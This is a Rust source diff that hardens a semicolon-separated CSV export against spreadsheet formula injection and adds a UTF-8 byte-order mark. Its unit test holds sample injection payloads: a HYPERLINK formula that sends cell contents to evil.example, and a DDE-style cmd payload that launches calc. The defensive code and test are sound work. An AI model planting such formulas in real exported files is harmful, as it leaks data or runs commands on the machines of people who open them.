@@ -10,6 +10,8 @@ pub mod format;
 mod liste;
 mod schema;
 
+use std::borrow::Cow;
+
 use serde::Serialize;
 
 use crate::plan::{DataFacts, DataFiles, Plan, Table, schema_path};
@@ -98,13 +100,67 @@ fn json(data: &impl Serialize) -> Vec<u8> {
     text.into_bytes()
 }
 
-/// RFC 4180, with the semicolon that French spreadsheets expect.
+/// RFC 4180, with the semicolon that French spreadsheets expect, and the mark by which they know UTF-8.
 fn table<R: Serialize>(rows: &[R]) -> Vec<u8> {
-    let mut writer =
-        csv::WriterBuilder::new().delimiter(b';').terminator(csv::Terminator::CRLF).from_writer(Vec::new());
+    let writer = || csv::WriterBuilder::new().delimiter(b';').terminator(csv::Terminator::CRLF).from_writer(Vec::new());
+    let mut plain = writer();
     for row in rows {
         // A row of texts and numbers written to memory cannot fail.
-        let _ = writer.serialize(row);
+        let _ = plain.serialize(row);
     }
-    writer.into_inner().unwrap_or_default()
+    let plain = plain.into_inner().unwrap_or_default();
+    let mut safe = writer();
+    let mut rows = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(plain.as_slice());
+    for row in rows.records().flatten() {
+        let _ = safe.write_record(row.iter().map(|cell| inert(cell).into_owned()));
+    }
+    ["\u{FEFF}".as_bytes(), &safe.into_inner().unwrap_or_default()].concat()
+}
+
+/// A cell that no spreadsheet runs: one that begins as a formula does begins with an apostrophe, and so does one that
+/// begins with an apostrophe, so that a program takes away the first and has the words.
+fn inert(cell: &str) -> Cow<'_, str> {
+    match cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\'', '＝', '＋', '－', '＠']) {
+        true => Cow::Owned(format!("'{cell}")),
+        false => Cow::Borrowed(cell),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[derive(Serialize)]
+    struct Row {
+        code: &'static str,
+        texte: &'static str,
+        niveau: Option<i8>,
+    }
+
+    #[test]
+    fn a_spreadsheet_runs_no_cell_and_a_program_finds_the_words() {
+        let texts = [
+            "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Cliquez\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+33",
+            "-5 %",
+            "＝1+1",
+            "'déjà",
+            "Pétrir = travailler",
+            "« -5 % »",
+            "",
+        ];
+        let rows: Vec<Row> = texts.map(|texte| Row { code: "D1", texte, niveau: Some(-1) }).into();
+        let bytes = table(&rows);
+        let text = std::str::from_utf8(&bytes).expect("UTF-8").strip_prefix('\u{FEFF}').expect("a mark");
+        assert!(text.starts_with("code;texte;niveau\r\n"), "{text}");
+        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
+        let found: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
+        assert_eq!(found.len(), texts.len());
+        for (row, text) in found.iter().zip(texts) {
+            assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '＝'])), "{row:?}");
+            assert_eq!(row[1].strip_prefix('\'').unwrap_or(&row[1]), text);
+            assert_eq!(&row[2], "'-1");
+        }
+    }
 }
